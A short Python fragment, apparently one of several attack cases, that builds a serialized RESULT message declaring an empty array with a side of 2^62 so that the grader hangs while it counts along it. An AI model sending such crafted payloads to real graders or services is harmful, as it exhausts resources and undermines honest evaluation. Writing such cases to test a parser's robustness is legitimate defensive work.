"""An empty array with a side of 2⁶². Success: the grader counts along it."""


def attack():
    sides = struct.pack("<3Q", 1 << 62, 0, 1 << 62)
    frame(RESULT, call_under_way(), b"l\3\0\0\0a\x0b\3" + sides + b"NN")
